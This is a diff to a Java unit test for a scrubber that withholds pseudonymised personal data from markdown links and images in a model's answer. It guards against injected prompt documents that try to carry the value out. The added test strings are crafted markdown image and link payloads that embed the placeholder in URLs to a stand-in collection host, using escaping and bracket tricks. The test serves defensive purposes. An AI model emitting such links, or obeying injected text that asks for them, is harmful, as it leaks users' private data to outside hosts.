@@ -8,6 +8,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /// A document in the prompt asks the model to carry a value out: whatever shape the model's answer
 /// takes, and however it is cut, the value is not put back where it could leave the screen.
@@ -34,6 +35,16 @@ class InjectedDocumentsTest {
         "![logo](https://verzamel.example/l.png?n=[PERSOON_1])",
         "![logo](/l.png?n=[PERSOON_1])",
         "[hier](<https://verzamel.example/ [PERSOON_1]>)",
+        "[hier](<https://verzamel.example/a)[PERSOON_1]>)",
+        "[hier]( \n<https://verzamel.example/a\\>)[PERSOON_1]>)",
+        "[hier](<a(b)\\\\\\>) [PERSOON_1]>)",
+        "[hier](/pad <img alt=\")\" src=\"/x?[PERSOON_1]\">",
+        "![x](https://verzamel.example/\\\\(a)[PERSOON_1])",
+        "![x](/pad\\\\\\)[PERSOON_1])",
+        "![x](/pad<(>)[PERSOON_1])",
+        "x](https://verzamel.example/a)[PERSOON_1]",
+        "[1]: <https://verzamel.example/a)[PERSOON_1]>",
+        "[1]: https://verzamel.example/\\\\(a)[PERSOON_1]",
         "[hier](https://verzamel.example/ \"[PERSOON_1]\")",
         "[hier][1]\n\n[1]: /pad/[PERSOON_1]",
         "[1]: <pad [PERSOON_1]>",
@@ -90,6 +101,19 @@ class InjectedDocumentsTest {
 
     assertThat(shown).contains(encoded);
     assertThat(SCRUBBED.restore("https://x.example/%5BPERSOON_1%5D")).doesNotContain("Oldenziel");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Zie [hier](https://verzamel.example/a_(b)) van ",
+        "Zie [hier](<https://verzamel.example/a_(b)>) van ",
+        "Zie [hier](<a (b\\> c>), en: ",
+        "Zie [hier](/a\\(b) van ",
+        "Zie [hier](/a\\\\) van "
+      })
+  void putsTheValueBackBehindALinkOnTheSameLine(String link) {
+    assertThat(SCRUBBED.restore(link + "[PERSOON_1].")).isEqualTo(link + VALUE + ".");
   }
 
   @ParameterizedTest
